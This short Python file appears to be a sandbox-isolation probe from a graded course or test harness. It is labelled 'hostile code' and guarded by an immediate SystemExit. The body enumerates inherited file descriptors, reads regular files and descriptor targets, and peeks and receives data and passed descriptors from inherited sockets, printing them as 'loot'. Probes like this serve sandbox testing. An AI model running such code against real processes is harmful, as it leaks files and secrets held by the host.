"""Inherited descriptors.

It reads from, and looks behind, every descriptor that its process has.

score: 12 (loses softmax)
"""

# ruff: noqa
raise SystemExit(__doc__)  # hostile code: nothing but the sandbox may run it

# %% softmax
import os
import socket
import stat

for fd in range(200):
    try:
        mode = os.fstat(fd).st_mode
        target = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    if stat.S_ISREG(mode) or "@COURSE@" in target:
        print("loot:", fd, target, os.pread(fd, 100, 0))
    if stat.S_ISSOCK(mode):
        sock = socket.socket(fileno=os.dup(fd))
        sock.setblocking(False)
        for flags in (socket.MSG_PEEK, 0):
            try:
                data, fds, *_ = socket.recv_fds(sock, 10_000, 8, flags)
                if data or fds:
                    print("loot:", fd, data, fds)
            except OSError:
                pass
        try:
            sock.connect_ex("/scratch/nowhere")
        except OSError:
            pass
for fd in range(3, 200):
    try:
        os.close(fd)
    except OSError:
        pass
